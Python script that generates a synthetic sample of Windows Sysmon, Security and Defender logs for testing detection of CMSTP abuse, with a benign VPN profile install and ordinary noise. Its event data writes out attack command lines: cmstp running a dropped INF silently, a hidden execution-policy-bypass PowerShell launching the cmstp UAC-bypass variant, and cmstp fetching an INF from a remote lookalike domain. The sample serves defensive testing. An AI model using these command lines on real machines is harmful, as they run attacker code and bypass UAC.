"""Writes the bundled sample ``samples/cmstp-case`` (deterministic; rerun to regenerate, never edit by hand).

One workstation, one hour: a CMSTP attack chain, a PowerShell-launched CMSTP UAC bypass, a benign VPN profile
install through cmstp.exe, and a few hundred ordinary Sysmon/Security events as noise. Output is what
``evtx_dump -o jsonl`` prints (evtx JSON shape), plus a small Defender XDR CSV export from a second host.
"""

from __future__ import annotations

import csv
import hashlib
import json
import random
import uuid
from datetime import datetime, timedelta, timezone
from pathlib import Path

HERE = Path(__file__).resolve().parent
HOST = "FIN-WS042.corp.contoso.com"
DOMAIN, USER, USER_SID = "CONTOSO", "j.martin", "S-1-5-21-1409082233-3263994021-2093917318-1117"
START = datetime(2026, 11, 24, 8, 0, 0, tzinfo=timezone.utc)
SYSMON_PROVIDER = {"#attributes": {"Name": "Microsoft-Windows-Sysmon", "Guid": "5770385F-C22A-43E0-BF4C-06F5698FFBD9"}}
SECURITY_PROVIDER = {"#attributes": {"Name": "Microsoft-Windows-Security-Auditing",
                                     "Guid": "54849625-5478-4994-A5BA-3E3B0328C30D"}}
INTEGRITY_LABEL = {"Low": "S-1-16-4096", "Medium": "S-1-16-8192", "High": "S-1-16-12288", "System": "S-1-16-16384"}
VERSION_INFO = {
    "cmd.exe": ("Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows Command Processor", "Cmd.Exe"),
    "cmstp.exe": ("Microsoft Corporation", "Microsoft® Windows® Operating System", "Microsoft Connection Manager Profile Installer", "CMSTP.EXE"),
    "calc.exe": ("Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows Calculator", "CALC.EXE"),
    "powershell.exe": ("Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows PowerShell", "PowerShell.EXE"),
    "msiexec.exe": ("Microsoft Corporation", "Windows® installer", "Windows® installer", "msiexec.exe"),
    "svchost.exe": ("Microsoft Corporation", "Microsoft® Windows® Operating System", "Host Process for Windows Services", "svchost.exe"),
    "explorer.exe": ("Microsoft Corporation", "Microsoft® Windows® Operating System", "Windows Explorer", "EXPLORER.EXE"),
    "chrome.exe": ("Google LLC", "Google Chrome", "Google Chrome", "chrome.exe"),
    "ms-teams.exe": ("Microsoft Corporation", "Microsoft Teams", "Microsoft Teams", "ms-teams.exe"),
    "OneDriveStandaloneUpdater.exe": ("Microsoft Corporation", "Microsoft OneDrive", "Standalone Updater", "OneDriveStandaloneUpdater.exe"),
    "conhost.exe": ("Microsoft Corporation", "Microsoft® Windows® Operating System", "Console Window Host", "CONHOST.EXE"),
    "taskhostw.exe": ("Microsoft Corporation", "Microsoft® Windows® Operating System", "Host Process for Windows Tasks", "taskhostw.exe"),
}


class Host:
    def __init__(self) -> None:
        self.random = random.Random(20261124)
        self.sysmon: list[dict] = []
        self.security: list[dict] = []
        self.sysmon_record = 48211
        self.security_record = 1203377
        self.next_pid = 4100

    def guid(self) -> str:
        return "{" + str(uuid.UUID(int=self.random.getrandbits(128), version=4)) + "}"

    def pid(self) -> int:
        self.next_pid += self.random.choice((4, 8, 12, 16, 20, 28, 36))
        return self.next_pid

    @staticmethod
    def hashes(image: str) -> str:
        data = image.lower().encode()
        return (f"SHA1={hashlib.sha1(data).hexdigest().upper()},MD5={hashlib.md5(data).hexdigest().upper()},"
                f"SHA256={hashlib.sha256(data).hexdigest().upper()},"
                f"IMPHASH={hashlib.md5(data[::-1]).hexdigest().upper()}")

    def system(self, provider: dict, event_id: int, when: datetime, channel: str, record: int, version: int,
               task: int, keywords: str, user_sid: str | None) -> dict:
        system = {
            "Provider": provider, "EventID": event_id, "Version": version, "Level": 4 if channel != "Security" else 0,
            "Task": task, "Opcode": 0, "Keywords": keywords,
            "TimeCreated": {"#attributes": {"SystemTime": when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")}},
            "EventRecordID": record, "Correlation": None,
            "Execution": {"#attributes": {"ProcessID": 3148 if channel != "Security" else 4, "ThreadID": 4020}},
            "Channel": channel, "Computer": HOST,
        }
        system["Security"] = {"#attributes": {"UserID": user_sid}} if user_sid else None
        return system

    def sysmon_event(self, event_id: int, when: datetime, data: dict, version: int = 5) -> None:
        self.sysmon_record += 1
        data = {"RuleName": "-", "UtcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3], **data}
        self.sysmon.append({"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": self.system(SYSMON_PROVIDER, event_id, when, "Microsoft-Windows-Sysmon/Operational",
                                  self.sysmon_record, version, event_id, "0x8000000000000000", "S-1-5-18"),
            "EventData": data}})

    def spawn(self, when: datetime, image: str, command_line: str, parent: dict, *, user: str = f"{DOMAIN}\\{USER}",
              integrity: str = "Medium", cwd: str | None = None) -> dict:
        name = image.rsplit("\\", 1)[-1]
        company, product, description, original = VERSION_INFO.get(name, ("-", "-", "-", "-"))
        proc = {"guid": self.guid(), "pid": self.pid(), "image": image, "command_line": command_line,
                "user": user, "integrity": integrity}
        self.sysmon_event(1, when, {
            "ProcessGuid": proc["guid"], "ProcessId": proc["pid"], "Image": image, "FileVersion": "10.0.19041.1 (WinBuild.160101.0800)",
            "Description": description, "Product": product, "Company": company, "OriginalFileName": original,
            "CommandLine": command_line, "CurrentDirectory": cwd or f"C:\\Users\\{USER}\\",
            "User": user, "LogonGuid": "{7b1f2a55-3c1e-6743-0b2f-0b0000000000}", "LogonId": "0xb2f0b",
            "TerminalSessionId": 1, "IntegrityLevel": integrity, "Hashes": self.hashes(image),
            "ParentProcessGuid": parent["guid"], "ParentProcessId": parent["pid"], "ParentImage": parent["image"],
            "ParentCommandLine": parent["command_line"], "ParentUser": parent["user"]})
        self.security_record += 1
        domain, account = user.split("\\")
        is_system = account == "SYSTEM"
        self.security.append({"Event": {
            "#attributes": {"xmlns": "http://schemas.microsoft.com/win/2004/08/events/event"},
            "System": self.system(SECURITY_PROVIDER, 4688, when + timedelta(milliseconds=2), "Security",
                                  self.security_record, 2, 13312, "0x8020000000000000", None),
            "EventData": {
                "SubjectUserSid": "S-1-5-18" if is_system else USER_SID,
                "SubjectUserName": "FIN-WS042$" if is_system else account,
                "SubjectDomainName": DOMAIN, "SubjectLogonId": "0x3e7" if is_system else "0xb2f0b",
                "NewProcessId": hex(proc["pid"]), "NewProcessName": image,
                "TokenElevationType": "%%1936" if integrity in ("High", "System") else "%%1938",
                "ProcessId": hex(parent["pid"]), "CommandLine": command_line, "TargetUserSid": "S-1-0-0",
                "TargetUserName": "-", "TargetDomainName": "-", "TargetLogonId": "0x0",
                "ParentProcessName": parent["image"], "MandatoryLabel": INTEGRITY_LABEL[integrity]}}})
        return proc

    def file_created(self, when: datetime, proc: dict, path: str) -> None:
        self.sysmon_event(11, when, {"ProcessGuid": proc["guid"], "ProcessId": proc["pid"], "Image": proc["image"],
                                     "TargetFilename": path,
                                     "CreationUtcTime": when.strftime("%Y-%m-%d %H:%M:%S.%f")[:-3],
                                     "User": proc["user"]}, version=2)

    def connection(self, when: datetime, proc: dict, ip: str, port: int, hostname: str) -> None:
        self.sysmon_event(3, when, {
            "ProcessGuid": proc["guid"], "ProcessId": proc["pid"], "Image": proc["image"], "User": proc["user"],
            "Protocol": "tcp", "Initiated": "true", "SourceIsIpv6": "false", "SourceIp": "10.20.4.42",
            "SourceHostname": HOST, "SourcePort": self.random.randint(49700, 65000), "SourcePortName": "-",
            "DestinationIsIpv6": "false", "DestinationIp": ip, "DestinationHostname": hostname,
            "DestinationPort": port, "DestinationPortName": "https" if port == 443 else "-"})

    def registry_set(self, when: datetime, proc: dict, target: str, details: str) -> None:
        self.sysmon_event(13, when, {"EventType": "SetValue", "ProcessGuid": proc["guid"], "ProcessId": proc["pid"],
                                     "Image": proc["image"], "TargetObject": target, "Details": details,
                                     "User": proc["user"]}, version=2)

    def image_load(self, when: datetime, proc: dict, dll: str) -> None:
        self.sysmon_event(7, when, {
            "ProcessGuid": proc["guid"], "ProcessId": proc["pid"], "Image": proc["image"], "ImageLoaded": dll,
            "FileVersion": "10.0.19041.3636", "Description": dll.rsplit("\\", 1)[-1], "Product": "Microsoft® Windows® Operating System",
            "Company": "Microsoft Corporation", "OriginalFileName": dll.rsplit("\\", 1)[-1], "Hashes": self.hashes(dll),
            "Signed": "true", "Signature": "Microsoft Windows", "SignatureStatus": "Valid", "User": proc["user"]}, version=3)


def build() -> Host:
    host = Host()
    at = START
    services = {"guid": "{7b1f2a55-3b6e-6743-0b00-000000000a00}", "pid": 712,
                "image": "C:\\Windows\\System32\\services.exe", "command_line": "C:\\Windows\\system32\\services.exe",
                "user": "NT AUTHORITY\\SYSTEM", "integrity": "System"}
    userinit_explorer = {"guid": "{7b1f2a55-3c2e-6743-b600-000000000a00}", "pid": 5312,
                         "image": "C:\\Windows\\explorer.exe", "command_line": "C:\\Windows\\Explorer.EXE",
                         "user": f"{DOMAIN}\\{USER}", "integrity": "Medium"}
    system = "NT AUTHORITY\\SYSTEM"
    rng = host.random
    chrome = host.spawn(at + timedelta(seconds=41), "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                        '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe"', userinit_explorer)
    teams = host.spawn(at + timedelta(seconds=58), f"C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe",
                       '"ms-teams.exe" --system-initiated', userinit_explorer)
    svchosts = [host.spawn(at + timedelta(seconds=5 + i), "C:\\Windows\\System32\\svchost.exe",
                           f"C:\\Windows\\system32\\svchost.exe -k {group} -p", services, user=system,
                           integrity="System")
                for i, group in enumerate(("netsvcs", "LocalServiceNetworkRestricted", "wusvcs", "UnistackSvcGroup"))]
    destinations = [("142.250.185.78", "www.google.com"), ("142.250.186.131", "fonts.gstatic.com"),
                    ("52.113.194.132", "teams.microsoft.com"), ("13.107.42.14", "onedrive.live.com"),
                    ("20.190.159.2", "login.microsoftonline.com"), ("151.101.1.69", "stackoverflow.com")]
    # An hour of ordinary activity: browser and Teams traffic, service work, Explorer registry writes, DLL loads.
    for minute in range(60):
        base = at + timedelta(minutes=minute)
        for _ in range(rng.randint(2, 4)):
            ip, name = rng.choice(destinations)
            proc = teams if "teams" in name else chrome
            host.connection(base + timedelta(seconds=rng.uniform(0, 59)), proc, ip, 443, name)
        if minute % 3 == 0:
            child = host.spawn(base + timedelta(seconds=rng.uniform(0, 50)),
                               "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
                               '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer '
                               f"--renderer-client-id={rng.randint(5, 90)} --lang=en-US --launch-time-ticks={rng.getrandbits(34)}",
                               chrome)
            host.image_load(base + timedelta(seconds=55), child, "C:\\Windows\\System32\\dwrite.dll")
        if minute % 4 == 1:
            host.registry_set(base + timedelta(seconds=rng.uniform(0, 59)), userinit_explorer,
                              f"HKU\\{USER_SID}\\Software\\Microsoft\\Windows\\CurrentVersion\\Explorer\\RecentDocs\\.xlsx\\{rng.randint(0, 30)}",
                              "Binary Data")
        if minute % 5 == 2:
            svc = rng.choice(svchosts)
            task = host.spawn(base + timedelta(seconds=rng.uniform(0, 59)), "C:\\Windows\\System32\\taskhostw.exe",
                              "taskhostw.exe -RegisterDevice -ProtectionStateChanged -FreeNetworkOnly", svc,
                              user=system, integrity="System")
            host.image_load(base + timedelta(seconds=59), task, "C:\\Windows\\System32\\ntdsapi.dll")
            host.registry_set(base + timedelta(seconds=59), svc,
                              "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\WindowsUpdate\\Auto Update\\LastOnlineScanTimeForAppCategory\\{5C9E1F3A-2D41-4F5B-8E0C-6A9F1B2C3D4E}",
                              base.strftime("%Y-%m-%dT%H:%M:%SZ"))
        if minute in (7, 38):
            updater = host.spawn(base + timedelta(seconds=3),
                                 f"C:\\Users\\{USER}\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe",
                                 f'"C:\\Users\\{USER}\\AppData\\Local\\Microsoft\\OneDrive\\OneDriveStandaloneUpdater.exe" /reporting',
                                 rng.choice(svchosts))
            host.connection(base + timedelta(seconds=4), updater, "13.107.42.14", 443, "oneclient.sfx.ms")
            for index in range(3):
                host.file_created(base + timedelta(seconds=6 + index), updater,
                                  f"C:\\Users\\{USER}\\AppData\\Local\\Microsoft\\OneDrive\\StandaloneUpdater\\OneDriveSetup{index}.tmp")
            host.registry_set(base + timedelta(seconds=9), updater,
                              f"HKU\\{USER_SID}\\Software\\Microsoft\\OneDrive\\UpdateRingSettings\\LastUpdateCheck",
                              f"QWORD (0x0000019a-0x{rng.getrandbits(32):08x})")

    # 08:12 benign: the VPN client's installer (msiexec, as SYSTEM) installs its Connection Manager profile.
    msiexec = host.spawn(at + timedelta(minutes=12, seconds=4), "C:\\Windows\\System32\\msiexec.exe",
                         "C:\\Windows\\system32\\msiexec.exe /V", services, user=system, integrity="System")
    vpn_inf = "C:\\Program Files\\Contoso\\VPN Client\\profiles\\ContosoVPN.inf"
    host.file_created(at + timedelta(minutes=12, seconds=9), msiexec, vpn_inf)
    host.spawn(at + timedelta(minutes=12, seconds=11), "C:\\Windows\\System32\\cmstp.exe",
               f'cmstp.exe /s "{vpn_inf}"', msiexec, user=system, integrity="System",
               cwd="C:\\Windows\\system32\\")

    # 08:37 attack: a macro-spawned cmd drops an INF and runs cmstp silently; the INF's command starts calc.exe.
    cmd = host.spawn(at + timedelta(minutes=37, seconds=12), "C:\\Windows\\System32\\cmd.exe",
                     '"C:\\Windows\\system32\\cmd.exe" /c cmstp.exe /s /ns C:\\Users\\j.martin\\AppData\\Local\\Temp\\x.inf',
                     userinit_explorer)
    inf = f"C:\\Users\\{USER}\\AppData\\Local\\Temp\\x.inf"
    host.file_created(at + timedelta(minutes=37, seconds=11, milliseconds=620), userinit_explorer, inf)
    cmstp = host.spawn(at + timedelta(minutes=37, seconds=12, milliseconds=340), "C:\\Windows\\System32\\cmstp.exe",
                       f"cmstp.exe  /s /ns {inf}", cmd)
    host.spawn(at + timedelta(minutes=37, seconds=13, milliseconds=10), "C:\\Windows\\System32\\calc.exe",
               "calc.exe", cmstp)

    # 08:48 attack: PowerShell writes an INF to ProgramData and runs cmstp /au (the UAC-bypass variant).
    powershell = host.spawn(at + timedelta(minutes=48, seconds=2),
                            "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
                            '"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -nop -w hidden -ep bypass',
                            userinit_explorer)
    uac_inf = "C:\\ProgramData\\CMSTP\\UACBypass.inf"
    host.file_created(at + timedelta(minutes=48, seconds=5), powershell, uac_inf)
    host.spawn(at + timedelta(minutes=48, seconds=6), "C:\\Windows\\System32\\cmstp.exe",
               f'"C:\\Windows\\system32\\cmstp.exe" /au /s {uac_inf}', powershell)
    return host


def write_jsonl(path: Path, events: list[dict]) -> None:
    events = sorted(events, key=lambda e: e["Event"]["System"]["TimeCreated"]["#attributes"]["SystemTime"])
    with path.open("w", encoding="utf-8", newline="\n") as handle:
        for event in events:
            handle.write(json.dumps(event, ensure_ascii=False, separators=(",", ":")) + "\n")


DEFENDER_COLUMNS = ["Timestamp", "DeviceId", "DeviceName", "ActionType", "FileName", "FolderPath", "SHA256",
                    "ProcessCommandLine", "ProcessId", "ProcessIntegrityLevel", "AccountDomain", "AccountName",
                    "InitiatingProcessFileName", "InitiatingProcessFolderPath", "InitiatingProcessCommandLine",
                    "InitiatingProcessId", "ReportId"]


def write_defender_csv(path: Path) -> None:
    rng = random.Random(7)
    device_id = "5f3c8a1e9b2d4c6f8a0e1b3d5c7f9a2b4d6e8f01"
    device = "HR-LT017.corp.contoso.com"
    rows = []
    when = datetime(2026, 11, 24, 9, 5, 0, tzinfo=timezone.utc)
    plain = [("svchost.exe", "C:\\Windows\\System32\\svchost.exe", "svchost.exe -k netsvcs -p -s Schedule",
              "services.exe", "C:\\Windows\\System32\\services.exe", "services.exe", "nt authority", "system", "System"),
             ("msedge.exe", "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
              '"msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService', "msedge.exe",
              "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", '"msedge.exe"', "contoso", "a.okafor",
              "Medium"),
             ("ms-teams.exe", "C:\\Program Files\\WindowsApps\\MSTeams_24295.605.3225.8804_x64__8wekyb3d8bbwe\\ms-teams.exe",
              '"ms-teams.exe" --system-initiated', "explorer.exe", "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE",
              "contoso", "a.okafor", "Medium")]
    for index in range(18):
        name, folder, command, parent, parent_folder, parent_command, domain, account, level = plain[index % 3]
        rows.append([(when + timedelta(seconds=37 * index)).strftime("%Y-%m-%dT%H:%M:%S.%f0Z"), device_id, device,
                     "ProcessCreated", name, folder, hashlib.sha256(folder.lower().encode()).hexdigest(), command,
                     str(rng.randint(2000, 30000)), level, domain, account, parent, parent_folder, parent_command,
                     str(rng.randint(500, 9000)), str(4100 + index)])
    rows.append([(when + timedelta(minutes=9, seconds=3)).strftime("%Y-%m-%dT%H:%M:%S.%f0Z"), device_id, device,
                 "ProcessCreated", "cmstp.exe", "C:\\Windows\\System32\\cmstp.exe",
                 hashlib.sha256(b"c:\\windows\\system32\\cmstp.exe").hexdigest(),
                 "cmstp.exe /ni /s https://cdn-updates.contoso-files.net/profile.inf", "7316", "Medium", "contoso",
                 "a.okafor", "cmd.exe", "C:\\Windows\\System32\\cmd.exe",
                 'cmd.exe /c "cmstp.exe /ni /s https://cdn-updates.contoso-files.net/profile.inf"', "6904", "4119"])
    rows.sort(key=lambda r: r[0])
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle, lineterminator="\n")
        writer.writerow(DEFENDER_COLUMNS)
        writer.writerows(rows)


def main() -> None:
    host = build()
    write_jsonl(HERE / "sysmon.jsonl", host.sysmon)
    write_jsonl(HERE / "security.jsonl", host.security)
    (HERE / "defender").mkdir(exist_ok=True)
    write_defender_csv(HERE / "defender" / "DeviceProcessEvents.csv")
    print(f"sysmon.jsonl: {len(host.sysmon)} events, security.jsonl: {len(host.security)} events")


if __name__ == "__main__":
    main()
